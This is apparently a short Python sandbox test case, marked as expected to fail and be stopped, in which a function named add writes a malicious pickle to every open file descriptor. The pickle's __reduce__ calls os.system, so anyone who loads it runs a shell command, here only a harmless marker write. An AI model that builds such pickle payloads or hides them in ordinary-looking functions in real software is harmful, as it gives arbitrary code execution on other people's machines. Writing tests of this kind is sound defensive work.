# what: a pickle that runs code on whoever loads it, on every descriptor
# want: fail
# unsafe: stopped
import os
import pickle
import struct


class Bomb:
  def __reduce__(self):
    return os.system, ('echo x > {{DROP}}/pickle',)


body = pickle.dumps(Bomb())


def add(a, b):
  for number in range(1, 256):
    try:
      os.write(number, body + struct.pack('>I', len(body)) + body)
    except OSError:
      pass
  return None
